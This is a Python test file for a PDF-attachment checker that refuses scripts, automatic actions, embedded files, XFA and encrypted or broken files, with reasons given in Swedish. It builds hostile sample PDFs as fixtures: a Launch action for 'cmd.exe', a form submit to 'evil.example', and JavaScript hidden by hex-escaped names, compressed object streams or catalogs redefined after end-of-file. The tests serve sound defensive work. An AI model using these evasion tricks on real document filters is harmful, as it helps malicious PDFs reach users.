"""PDF attachments are opened: scripts, actions that run by themselves, other files and XFA
are refused with a Swedish reason, and so are files that cannot be read. Every malicious file
is built here, with pypdf or as raw bytes, so that what each test feeds in can be read."""

import io
import re
import zlib

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from utskick.entrypoints.benchmarks.signing import minimal_pdf
from utskick.letters.pdf_check import PdfRefusedError, check_pdf


def name(text):
    return NameObject(text)


def action(kind, **entries):
    return DictionaryObject(
        {name("/S"): name(kind)} | {name(f"/{key}"): value for key, value in entries.items()}
    )


def one_page(change=None):
    """A one-page PDF written by pypdf, after `change(writer)`."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if change is not None:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def refusal(content):
    with pytest.raises(PdfRefusedError) as refused:
        check_pdf("beslut.pdf", content)
    return str(refused.value)


def _javascript_name_tree(writer):
    script = writer._add_object(action("/JavaScript", JS=TextStringObject("app.alert(1)")))
    writer._root_object[name("/Names")] = DictionaryObject(
        {
            name("/JavaScript"): DictionaryObject(
                {name("/Names"): ArrayObject([TextStringObject("start"), script])}
            )
        }
    )


def _open_action(value):
    def change(writer):
        writer._root_object[name("/OpenAction")] = value(writer)

    return change


def _link_annotation(link_action):
    def change(writer):
        writer.pages[0][name("/Annots")] = ArrayObject(
            [
                DictionaryObject(
                    {
                        name("/Type"): name("/Annot"),
                        name("/Subtype"): name("/Link"),
                        name("/Rect"): ArrayObject([NumberObject(0)] * 4),
                        name("/A"): link_action,
                    }
                )
            ]
        )

    return change


def _page_additional_action(writer):
    writer.pages[0][name("/AA")] = DictionaryObject(
        {name("/O"): action("/Named", N=name("/NextPage"))}
    )


def _xfa_form(writer):
    writer._root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("<xdp:xdp/>")}
    )


def _file_attachment_annotation(writer):
    writer.pages[0][name("/Annots")] = ArrayObject(
        [
            DictionaryObject(
                {
                    name("/Type"): name("/Annot"),
                    name("/Subtype"): name("/FileAttachment"),
                    name("/Rect"): ArrayObject([NumberObject(0)] * 4),
                }
            )
        ]
    )


def _submit_form_field(writer):
    button = writer._add_object(
        DictionaryObject(
            {
                name("/FT"): name("/Btn"),
                name("/T"): TextStringObject("skicka"),
                name("/A"): action("/SubmitForm", F=TextStringObject("https://evil.example/in")),
            }
        )
    )
    writer._root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject([button])}
    )


REFUSED = [
    pytest.param(one_page(_javascript_name_tree), "JavaScript", id="javascript-name-tree"),
    pytest.param(
        one_page(_open_action(lambda _w: action("/JavaScript", JS=TextStringObject("x")))),
        "JavaScript",
        id="open-action-javascript",
    ),
    pytest.param(
        one_page(_open_action(lambda _w: action("/URI", URI=TextStringObject("https://x.se")))),
        "när den öppnas (/OpenAction)",
        id="open-action-uri",
    ),
    pytest.param(
        one_page(_link_annotation(action("/JavaScript", JS=TextStringObject("app.alert(1)")))),
        "JavaScript",
        id="annotation-action-javascript",
    ),
    pytest.param(
        one_page(_link_annotation(action("/Launch", F=TextStringObject("cmd.exe")))),
        "starta ett program",
        id="launch",
    ),
    pytest.param(
        one_page(_link_annotation(action("/GoToR", F=TextStringObject("annan.pdf")))),
        "annan fil (/GoToR)",
        id="goto-remote",
    ),
    pytest.param(
        one_page(_link_annotation(action("/GoToE", T=DictionaryObject()))),
        "(/GoToE)",
        id="goto-embedded",
    ),
    pytest.param(
        one_page(_link_annotation(action("/ImportData", F=TextStringObject("data.fdf")))),
        "(/ImportData)",
        id="import-data",
    ),
    pytest.param(one_page(_submit_form_field), "(/SubmitForm)", id="submit-form"),
    pytest.param(one_page(_page_additional_action), "(/AA)", id="page-additional-actions"),
    pytest.param(
        one_page(lambda w: w.add_attachment("faktura.exe", b"MZ")),
        "inbäddade filer",
        id="embedded-files",
    ),
    pytest.param(
        one_page(_file_attachment_annotation), "inbäddade filer", id="file-attachment-annotation"
    ),
    pytest.param(one_page(_xfa_form), "XFA-formulär", id="xfa"),
    pytest.param(
        one_page(lambda w: w.encrypt("hemligt")), "krypterad eller lösenordsskyddad", id="encrypted"
    ),
    pytest.param(
        one_page(lambda w: w.encrypt("")), "krypterad", id="encrypted-with-empty-password"
    ),
    pytest.param(b"%PDF-1.4\nbara text\n", "kan inte läsas som PDF", id="not-a-pdf-after-magic"),
    pytest.param(
        b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n",
        "kan inte läsas som PDF",
        id="no-document-catalog",
    ),
    pytest.param(minimal_pdf(2000)[:300], "kan inte läsas som PDF", id="truncated"),
]


@pytest.mark.parametrize(("content", "reason"), REFUSED)
def test_active_embedded_or_unreadable_content_is_refused_with_the_reason(content, reason):
    message = refusal(content)
    assert message.startswith("bilagan beslut.pdf ")
    assert reason in message


def test_a_name_spelled_with_hex_escapes_is_read_as_the_name():
    # /Java#53cript is /JavaScript to every reader: a scan of the raw bytes would miss it.
    hidden = minimal_pdf(2000).replace(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /Java#53cript /J#53 (x) >> >>",
    )
    assert b"/JavaScript" not in hidden
    assert "JavaScript" in refusal(hidden)


def _object_stream_pdf(compressed_objects):
    """PDF 1.5 with the catalog and `compressed_objects` (number → bytes) in an object stream,
    so that nothing but the page objects is readable without inflating it."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 5 0 R >> >>"}
    objects.update(compressed_objects)
    header, body = b"", b""
    for number, text in objects.items():
        header += b"%d %d " % (number, len(body))
        body += text + b"\n"
    packed = zlib.compress(header + body)
    out = bytearray(b"%PDF-1.5\n")
    offsets = {}

    def add(number, text):
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + text + b"\nendobj\n")

    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    add(
        6,
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(objects), len(header), len(packed))
        + packed
        + b"\nendstream",
    )
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    for number in range(1, 8):
        if number in objects:
            index = list(objects).index(number)
            rows.append(b"\x02" + (6).to_bytes(4, "big") + index.to_bytes(2, "big"))
        elif number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
        elif number == 7:
            rows.append(b"\x01" + len(out).to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x00" + (0).to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    xref_at = len(out)
    add(
        7,
        b"<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream",
    )
    out.extend(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return bytes(out)


def test_javascript_inside_a_compressed_object_stream_is_found():
    hidden = _object_stream_pdf(
        {5: b"<< /Names [(start) << /S /JavaScript /JS (app.alert(1)) >>] >>"}
    )
    assert b"JavaScript" not in hidden.split(b"stream")[0]
    assert "JavaScript" in refusal(hidden)


ACCEPTED = [
    pytest.param(minimal_pdf(2000), id="text-page"),
    pytest.param(one_page(), id="blank-page-by-pypdf"),
    pytest.param(
        one_page(
            _open_action(lambda w: ArrayObject([w.pages[0].indirect_reference, name("/Fit")]))
        ),
        id="open-action-that-only-shows-the-first-page",
    ),
    pytest.param(
        one_page(_link_annotation(action("/URI", URI=TextStringObject("https://exempel.se")))),
        id="web-link",
    ),
]


@pytest.mark.parametrize("content", ACCEPTED)
def test_a_plain_document_is_accepted(content):
    check_pdf("beslut.pdf", content)


def _many_pages(size):
    """A valid PDF of about `size` bytes made of thousands of small pages (many objects)."""
    page_count = size // 250
    out = bytearray(b"%PDF-1.4\n")
    offsets = []

    def add(text):
        offsets.append(len(out))
        out.extend(b"%d 0 obj\n" % len(offsets) + text + b"\nendobj\n")

    kids = b" ".join(b"%d 0 R" % (3 + 2 * page) for page in range(page_count))
    add(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>")
    add(b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % page_count)
    for page in range(page_count):
        stream = b"BT /F1 12 Tf 72 720 Td (Sida %d av beslutet) Tj ET" % page
        add(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>"
            % (4 + 2 * page)
        )
        add(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    xref = len(out)
    out.extend(b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1))
    out.extend(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.extend(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, xref)
    )
    return bytes(out)


def test_a_two_megabyte_pdf_of_thousands_of_objects_is_accepted():
    # Its speed is measured, not timed here: see docs/performance.md (intake checks).
    content = _many_pages(2 * 1024 * 1024)
    assert len(content) > 2_000_000
    check_pdf("protokoll.pdf", content)  # raises if refused


def _with_offsets_shifted(pdf, by):
    """The same file with every cross-reference offset `by` bytes off: pypdf forgives it,
    while a reader that checks an entry rebuilds the table from every `N 0 obj` it finds."""
    return re.sub(rb"(\d{10}) 00000 n", lambda m: b"%010d 00000 n" % (int(m[1]) + by), pdf)


REDEFINED_CATALOG = (
    b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R "
    b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n"
)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(one_page() + REDEFINED_CATALOG, id="catalog-redefined-after-eof"),
        pytest.param(
            _with_offsets_shifted(one_page(), 3) + REDEFINED_CATALOG,
            id="catalog-redefined-and-offsets-a-little-off",
        ),
        pytest.param(
            one_page() + b"9 0 obj\n<< /S /Java#53cript /J#53 (app.alert(1)) >>\nendobj\n",
            id="script-object-outside-the-table",
        ),
    ],
)
def test_a_definition_the_cross_reference_table_does_not_point_to_is_checked_too(content):
    # A repairing reader takes the last definition of each object: the second catalog runs.
    assert "innehåller JavaScript" in refusal(content)


def test_refused_names_inside_strings_outside_the_table_are_not_a_script():
    check_pdf("beslut.pdf", one_page() + b"9 0 obj\n[(/JS is only text)]\nendobj\n")
